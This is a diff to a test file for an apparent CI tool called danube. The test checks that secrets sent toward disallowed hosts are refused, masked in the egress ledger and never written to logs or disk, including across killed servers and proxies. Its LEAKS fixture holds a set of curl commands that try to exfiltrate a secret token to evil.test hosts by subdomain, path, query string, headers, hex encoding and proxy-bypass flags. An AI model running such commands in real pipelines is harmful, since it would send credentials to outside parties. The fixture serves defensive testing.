@@ -1,6 +1,8 @@
 """Egress in whole jobs: the list of the configuration, the lines in the log, the ledger by command, and a server that dies."""
 
 import json
+import os
+import signal
 import socket
 import threading
 from collections.abc import Iterator
@@ -107,25 +109,80 @@ def test_a_pipeline_without_a_list_is_told_which_line_is_missing(world: World) -
     assert "egress_allowlist: [packages.example]" in world.log(job)
 
 
-def test_a_secret_that_is_made_a_hosts_name_is_masked_where_people_look(world: World) -> None:
+SECRET = "Correct.Horse-Battery_9"
+
+LEAKS = """
+    import socket
+    from danube import pipeline, secrets, step
+
+    @pipeline(name="app")
+    def build():
+        step.run("curl -sS https://before.evil.test/ || true", name="before")
+        token = secrets.get("TOKEN")
+        env = {"TOKEN": token, "HEX": token.encode().hex()}
+        step.run("curl -sS https://$TOKEN.evil.test/$TOKEN || true; curl -sS https://$HEX.evil.test/ || true", env=env)
+        step.run("curl -sS http://$TOKEN.evil.test/$TOKEN?$TOKEN -H 'Host: '$TOKEN || true", env=env)
+        step.run("curl -sS http://files.test:PORT/$TOKEN?$TOKEN -u $TOKEN:$TOKEN -H X-Token:$TOKEN || true", env=env)
+        step.run("curl -sSk --connect-to ::files.test:PORT https://$TOKEN.evil.test/ || true", env=env)
+        step.run("curl -sS --noproxy '*' http://$TOKEN.evil.test/ || true", env=env)
+        step.run("curl -v -sS https://$TOKEN.evil.test:444/ 2>&1 | tr A-Z a-z > said || true", env=env)
+        step.run("echo ready; until [ -e go ]; do sleep 0.05; done", name="wait")
+        step.run("curl -sS https://after.$TOKEN.test/ || true", env=env)
+        step.run("curl -sS https://$NEW.evil.test/ || true", env={"NEW": secrets.get("NEW")})
+"""
+"""Every way in which a program can put a secret where a ledger has names, before and after two processes are killed."""
+
+
+def test_a_secret_that_is_made_a_hosts_name_is_written_down_nowhere(world: World, origin: Origin) -> None:
     world.pipeline(
         "app",
-        """
-        from danube import pipeline, secrets, step
-
-        @pipeline(name="app")
-        def build():
-            token = secrets.get("TOKEN")
-            step.run("curl -sS https://$TOKEN.evil.test/ || true", env={"TOKEN": token})
-        """,
+        LEAKS.replace("PORT", str(origin.server_port)),
+        egress_allowlist=allow(world, origin.server_port),
     )
     world.serve()
-    world.danube("secrets", "set", "TOKEN", stdin="correct-horse-battery")
+    world.danube("secrets", "set", "TOKEN", stdin=SECRET)
     job = world.trigger("app")
-    world.end_of(job)
-    shown = world.log(job) + world.danube("explain", job, "--egress", "--json").stdout
-    assert "***.evil.test" in shown
-    assert "correct-horse" not in shown
+    world.wait_for_log(job, "ready")
+    world.kill()
+    for proxy in proxies_of(world):
+        os.kill(proxy, signal.SIGKILL)
+    world.serve()
+    world.danube("secrets", "set", "NEW", stdin="Another-Secret")
+    world.danube("secrets", "set", "TOKEN", stdin="its-new-value")
+    (world.data / "pods" / job / "workspace" / "go").touch()
+    assert world.end_of(job)["status"] == "success", world.log(job)
+
+    shown = world.danube("explain", job, "--egress", "--json").stdout
+    found = [(one["step"], one["way"], one["host"], one["reason"]) for one in json.loads(shown)["destinations"]]
+    assert found == [
+        (1, "connect", "before.evil.test", "not-listed"),
+        (2, "connect", "***.evil.test", "not-listed"),
+        (3, "http", "***.evil.test", "not-listed"),
+        (4, "http", "files.test", "listed"),
+        (5, "connect", "files.test", "server-name-differs"),
+        (None, "dns", "***.evil.test", "dns"),
+        (7, "connect", "***.evil.test", "not-listed"),
+        (9, "connect", "after.***.test", "not-listed"),
+        (10, "connect", "***.evil.test", "not-listed"),
+    ]
+    assert "--- step 2: egress refused: ***.evil.test:443 (not-listed)" in world.log(job)
+    forms = [
+        form.encode() for form in (SECRET, SECRET.lower(), SECRET.encode().hex(), "Another-Secret", "another-secret")
+    ]
+    for form in forms:
+        assert world.files_with(form) == [], form
+        assert form not in world.server_log.read_bytes()
+        assert form not in shown.encode()
+
+
+def proxies_of(world: World) -> list[int]:
+    """The egress proxies whose log is in that data directory."""
+    log = world.data / "run" / "egress" / "proxy.log"
+    return [
+        int(place.parent.parent.name)
+        for place in Path("/proc").glob("[0-9]*/fd/2")
+        if os.path.realpath(place) == str(log)
+    ]
 
 
 def test_a_download_goes_on_while_the_server_is_dead(world: World) -> None:
